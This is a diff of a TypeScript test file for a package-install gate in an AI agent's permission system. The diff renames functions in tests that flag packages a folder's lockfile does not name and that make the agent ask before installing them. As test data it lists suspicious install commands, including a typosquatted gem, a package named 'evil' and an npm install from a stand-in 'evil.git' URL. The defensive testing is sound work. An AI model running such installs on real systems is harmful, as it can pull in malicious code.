@@ -5,8 +5,8 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { after, test } from 'node:test';
 import type { ToolCall, Decision, RunState } from '../../core/index.ts';
-import { kindOf, sessionGrants } from '../grants.ts';
-import { carefulOfPackages, strangePackages } from './packages.ts';
+import { grantKey, sessionGrants } from '../grants.ts';
+import { packageInstallGate, unknownPackages } from './packages.ts';
 
 const cwd = realpathSync(mkdtempSync(path.join(tmpdir(), 'fairlead-packages-')));
 after(() => rmSync(cwd, { recursive: true, force: true }));
@@ -24,9 +24,9 @@ write('Gemfile.lock', 'GEM\n  specs:\n    rails (7.0)\n');
 mkdirSync(path.join(cwd, 'node_modules/.bin'), { recursive: true });
 write('node_modules/.bin/tsc', '');
 
-const ground = { cwd, home: '/home/somebody', locate: (given: string) => path.resolve(cwd, given) };
-const strange = (command: string): Promise<readonly string[]> =>
-  strangePackages({ tool: 'run_command', input: { command } }, ground);
+const pathContext = { cwd, home: '/home/somebody', locate: (given: string) => path.resolve(cwd, given) };
+const unknownIn = (command: string): Promise<readonly string[]> =>
+  unknownPackages({ tool: 'run_command', input: { command } }, pathContext);
 
 test('[attack 74] what a lockfile or a manifest names is known, and what comes from one’s own folders', async () => {
   for (const command of [
@@ -52,7 +52,7 @@ test('[attack 74] what a lockfile or a manifest names is known, and what comes f
     'python3 -m mine install evil',
     'python3 run.py -m pip install evil',
   ])
-    assert.deepEqual(await strange(command), [], command);
+    assert.deepEqual(await unknownIn(command), [], command);
 });
 
 test('[attack 74] every other name is strange, however the command is written', async () => {
@@ -91,20 +91,20 @@ test('[attack 74] every other name is strange, however the command is written', 
     'gem i railz': ['railz'],
     'npm i git+https://example.org/evil.git': ['git+https://example.org/evil.git'],
   };
-  for (const [command, names] of Object.entries(cases)) assert.deepEqual(await strange(command), names, command);
+  for (const [command, names] of Object.entries(cases)) assert.deepEqual(await unknownIn(command), names, command);
 });
 
 test('[attack 74] the gate asks with the names even where all is allowed; a no stays a no, and an always is of this very command', async () => {
   const granted = sessionGrants();
   const call: ToolCall = { id: 'c', tool: 'run_command', input: { command: 'npm i evil lodash' } };
   const gated = (inner: Decision): Promise<Decision> =>
-    Promise.resolve(carefulOfPackages(() => inner, granted, ground)(call, {} as RunState));
+    Promise.resolve(packageInstallGate(() => inner, granted, pathContext)(call, {} as RunState));
   const question =
     'run_command: npm i evil lodash\nCareful: not in the lockfile of this folder, so nobody here has used it yet: evil.';
   assert.deepEqual(await gated({ type: 'allow' }), { type: 'ask', question });
   const asked = await gated({ type: 'ask', question: 'May I?' });
   assert.match(asked.type === 'ask' ? asked.question : '', /^May I\?\nCareful: not in the lockfile .* evil\.$/);
   assert.equal((await gated({ type: 'deny', reason: 'no' })).type, 'deny');
-  granted.grant(kindOf(call, ground.locate));
+  granted.grant(grantKey(call, pathContext.locate));
   assert.equal((await gated({ type: 'allow' })).type, 'allow');
 });
